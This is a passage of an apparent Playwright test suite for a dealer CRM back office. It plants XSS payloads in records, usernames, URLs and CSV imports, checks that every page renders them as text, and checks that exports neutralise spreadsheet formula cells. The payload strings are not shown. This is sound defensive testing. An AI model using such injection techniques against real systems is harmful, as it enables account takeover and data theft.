    per-cell reasons, the import list and the imported customers and orders show them as text."""
    make_user("clerk", "clerk")
    dealer = Dealer(code="XSS-IMP-1", name=payload(0), level="standard")
    product = Product(model_number="XSS-IMP-P", name=payload(1), category="sofa")
    db.session.add_all([dealer, product])
    db.session.commit()
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(["客户姓名", "手机号码", "省份", "城市", "详细地址", "产品型号", "订单号", "下单日期",
                     "销售员"])
    good_names = set()
    for i in range(len(PAYLOADS)):
        texts = [payload(i)[:60], payload(i + 1)[:40], payload(i + 2)[:40], payload(i + 3), payload(i + 5)[:60]]
        good = not any(text.startswith(FORMULA_STARTS) for text in texts)
        if good:
            good_names.add(texts[0].strip())
        # A row with a formula anywhere is refused; those rows also carry an unknown product
        # and a date that is not one, whose reasons quote the payload back.
        writer.writerow([texts[0], f"1390000{i:04d}", texts[1], texts[2], texts[3],
                         "XSS-IMP-P" if good else payload(i + 4)[:40], f"XSS-SO-{i}",
                         "2026-01-05" if good else payload(i), texts[4]])
    page = desktop_page
    clerk = Sweep(page, live_server, "clerk")
    sign_in(page, live_server, "clerk")
    clerk.open("/admin/order_import/upload/", shows=False)
    page.locator("#import-dealer").fill("XSS-IMP-1")
    page.locator("#import-file").set_input_files({"name": f"{payload(1)}.csv", "mimeType": "text/csv",
                                                  "buffer": buffer.getvalue().encode("utf-8")})
    page.get_by_role("button", name="检查文件").click()
    page.get_by_role("link", name="继续").wait_for()
    clerk.inspect("/admin/order_import/upload/ (progress)")
    page.get_by_role("link", name="继续").click()
    page.wait_for_url("**/admin/order_import/details/**")
    clerk.inspect("/admin/order_import/details/ (preview)")
    assert page.locator("tr.table-danger").count() > 0  # the formula rows are refused, each with its reason
    clerk.open(page.url.removeprefix(live_server) + "&outcome=error")
    page.get_by_label("跳过").check()
    page.get_by_role("button", name="导入", exact=True).click()
    page.get_by_role("link", name="继续").wait_for()
    clerk.inspect("/admin/order_import/commit/ (progress)")
    page.get_by_role("link", name="继续").click()
    page.wait_for_url("**/admin/order_import/details/**")
    clerk.inspect("/admin/order_import/details/ (imported)")
    clerk.open("/admin/order_import/")
    db.session.rollback()
    names = set(db.session.scalars(select(Customer.name).where(Customer.dealer_id == dealer.id)))
    assert names == good_names and len(good_names) > 10
    clerk.open("/admin/customer/?page_size=50")
    clerk.open("/admin/order/?page_size=50")
    assert_inert(clerk)


# Back office: every page that shows stored records ----------------------------------------------
def test_every_back_office_page_shows_stored_payloads_as_text_to_an_administrator(live_server, app, desktop_page):
    """With a payload in every text field of every kind of record, an administrator (whose
    own username is a payload) opens every list, a sample of record pages (customer
    timelines, case notes, histories), edit forms, searches, the dashboard and its charts,
    every report, the service calendar, the duplicate finder, repeating problems, card
    printing, an import's preview, the queues and the audit trail."""
    archive = seed_archive()
    username = "admin" + payload(2)[:50]
    make_user(username, "admin")
    admin = Sweep(desktop_page, live_server, "admin")
    sign_in(desktop_page, live_server, username)
    admin.inspect("/admin/ (signed in)")
    admin.open("/admin/?days=365")
    drawn = desktop_page.evaluate("() => window.Chart ? Chart.getChart('weekly-chart') !== undefined : false")
    assert drawn, "the dashboard's weekly chart was not drawn"

    lists = {"customer": archive.customers, "order": archive.orders, "visit": archive.visits,
             "complaint": archive.complaints, "hotline_ticket": archive.tickets, "feedback_card": archive.cards,
             "card_batch": archive.batches, "dealer": archive.dealers, "product": archive.products,
             "user": archive.users}
    for view, records in lists.items():
        admin.open(f"/admin/{view}/?page_size=50")
        # Two records of the kinds whose pages add sections of their own (timeline, notes, linking).
        sampled = (records[0], records[-1]) if view in ("customer", "complaint", "hotline_ticket",
                                                         "feedback_card") else (records[-1],)
        for record in sampled:
            admin.open(f"/admin/{view}/details/?id={record.id}")
        if view != "card_batch":  # a printed batch is not edited
            admin.open(f"/admin/{view}/edit/?id={records[1].id}")
    admin.open("/admin/customer/?search=" + quote(payload(0)))
    admin.open("/admin/dealer/?search=script")
    # A payload as a list filter's value: the filter's own script puts it back into its field.
    admin.open(f"/admin/customer/?{filter_argument(app, 'customer', 'salesperson', FilterLike)}="
               + quote(payload(0)))
    assert desktop_page.locator("table.filters input.filter-val").input_value() == payload(0)
    admin.open("/admin/order/?search=" + quote(payload(1)))
    # Values the pages put back into their forms: a note's draft, a card's mobile, an unknown record.
    admin.open(f"/admin/complaint/details/?id={archive.complaints[1].id}&draft=" + quote(payload(4)))
    assert desktop_page.locator("#note-body").input_value() == payload(4)
    admin.open(f"/admin/feedback_card/details/?id={archive.cards[1].id}&mobile=" + quote(payload(1)))
    admin.open("/admin/customer/details/?id=" + quote(payload(0)), shows=False, status=404)
    admin.open("/admin/complaint/queue/mine/", shows=False)
    admin.open("/admin/hotline_ticket/queue/mine/", shows=False)
    admin.open("/admin/complaint/repeating/")
    admin.open(f"/admin/card_batch/print/?id={archive.batches[0].id}")
    admin.open("/admin/order_import/")
    admin.open(f"/admin/order_import/details/?id={archive.upload.id}")
    admin.open(f"/admin/order_import/details/?id={archive.upload.id}&outcome=error")
    admin.open("/admin/audit/?page_size=100")
    admin.open("/admin/audit/?search=alert")
    newest_audit = db.session.scalars(select(AuditEntry.id).order_by(AuditEntry.id.desc()).limit(2)).all()
    for entry in newest_audit:
        admin.open(f"/admin/audit/details/?id={entry}")
    admin.open("/admin/duplicates/")
    first, third = archive.customers[0], archive.customers[2]  # the same mobile number, the same dealership
    admin.open(f"/admin/duplicates/compare/?keep={first.id}&other={third.id}")
    admin.open("/admin/care/?list=maintenance&days=30")
    admin.open("/admin/care/?list=birthdays&days=7")
    admin.open("/admin/care/?list=holiday")
    # Reports grouped by typed text; the others group by codes (stage, channel, category) or
    # postal codes (six digits), which no payload can be.
    by_code = {"customers_postal_code", "customers_stage", "customers_channel", "purchases_category",
               "conversion_channel"}
    for report in REPORTS:
        if report.key in by_code:
            continue
        admin.open(f"/admin/reports/?report={report.key}")
        if report.key == "customers_dealer":
            labels = desktop_page.evaluate("() => Chart.getChart('report-chart').data.labels")
            assert any(payload(1)[:20] in label for label in labels), labels
    assert_inert(admin)
    assert admin.pages() >= 65, admin.pages()


def test_a_dealer_sees_their_own_records_full_of_script_as_text(live_server, app, phone_page):
    """A dealer (whose username is a payload) opens their own dealership's dashboard,
    lists, records, edit forms, customer timelines, cases with notes, feedback cards,
    products, service calendar, reports and imports on a phone: all text."""
    archive = seed_archive()
    username = "dealer" + payload(1)[:50]
    make_user(username, "dealer", dealer=archive.dealers[0])
    dealer = Sweep(phone_page, live_server, "dealer")
    sign_in(phone_page, live_server, username)
    dealer.inspect("/admin/ (signed in)")
    dealer.open("/admin/?days=365")
    own = [person for person in archive.customers if person.dealer_id == archive.dealers[0].id]
    records = {"customer": own, "order": [o for o in archive.orders if o.dealer_id == archive.dealers[0].id],
               "visit": [v for v in archive.visits if v.dealer_id == archive.dealers[0].id],
               "complaint": [c for c in archive.complaints if c.dealer_id == archive.dealers[0].id],
               "hotline_ticket": [t for t in archive.tickets if t.dealer_id == archive.dealers[0].id],
               "feedback_card": [c for c in archive.cards if c.dealer_id == archive.dealers[0].id]}
    for view, own_records in records.items():
        dealer.open(f"/admin/{view}/")
        dealer.open(f"/admin/{view}/details/?id={own_records[-1].id}")
    for view in ("customer", "order", "visit"):
        dealer.open(f"/admin/{view}/edit/?id={records[view][1].id}")
    dealer.open("/admin/product/")
    dealer.open(f"/admin/product/details/?id={archive.products[0].id}")
    dealer.open("/admin/care/?list=maintenance&days=30")
    dealer.open("/admin/care/?list=birthdays&days=7")
    dealer.open("/admin/care/?list=holiday")
    dealer.open("/admin/reports/?report=customers_region")
    dealer.open("/admin/reports/?report=customers_salesperson")
    dealer.open("/admin/order_import/")
    dealer.open(f"/admin/order_import/details/?id={archive.upload.id}")
    assert_inert(dealer)
    assert dealer.pages() >= 24, dealer.pages()


# Exports ---------------------------------------------------------------------------------------
EXPORTED_VIEWS = ("customer", "order", "visit", "complaint", "hotline_ticket", "feedback_card", "card_batch",
                  "dealer", "product", "user", "audit")


def _csv_cells(response) -> list[list[str]]:
    assert response.status == 200, response.url
    assert response.headers["content-type"].startswith("text/csv"), response.headers["content-type"]
    assert response.headers["content-disposition"].startswith("attachment"), response.headers
    assert response.headers["x-content-type-options"] == "nosniff"  # never sniffed and drawn as HTML
    return list(csv.reader(io.StringIO(response.body().decode("utf-8-sig"))))


def test_exports_give_payloads_back_as_text_with_formulas_neutralised(live_server, app, desktop_page):
    """Every list's CSV and XLSX export, the report export and the SMS campaign export are
    downloads (never drawn as a page), hold the payloads as text, and start no cell with
    =, +, -, @, tab or carriage return: such cells get a leading apostrophe."""
    from openpyxl import load_workbook

    archive = seed_archive()
    make_user("admin", "admin")
    sign_in(desktop_page, live_server, "admin")
    request = desktop_page.request
    formula_cells, payload_cells = [], 0
    exports = [f"/admin/{view}/export/csv/" for view in EXPORTED_VIEWS] + [
        "/admin/reports/export.csv?report=customers_salesperson", "/admin/reports/export.csv?report=customers_dealer",
        "/admin/care/campaign.csv?list=birthdays&days=7"]
    for path in exports:
        cells = _csv_cells(request.get(live_server + path))
        EXPORTS_READ.add(path)
        assert len(cells) > 1, path
        for row in cells[1:]:
            for cell in row:
                if cell.startswith(FORMULA_STARTS):
                    formula_cells.append((path, cell))
                payload_cells += any(text.strip()[:12] in cell for text in PAYLOADS if len(text.strip()) >= 12)
    assert formula_cells == []
    assert payload_cells > 100

    names = {row[0] for row in _csv_cells(request.get(f"{live_server}/admin/customer/export/csv/"))[1:]}
    expected = {("'" + person.name if person.name.startswith(FORMULA_STARTS) else person.name)
                for person in archive.customers}
    assert names == expected  # every payload name comes back whole, formulas with their apostrophe

    for path in ("/admin/customer/export/xlsx/", "/admin/reports/export.xlsx?report=customers_salesperson"):
        response = request.get(live_server + path)
        assert response.status == 200 and response.headers["content-disposition"].startswith("attachment")
        EXPORTS_READ.add(path)
        sheet = load_workbook(io.BytesIO(response.body())).active
        cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value is not None]
        assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
        assert [cell.value for cell in cells
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS)] == []
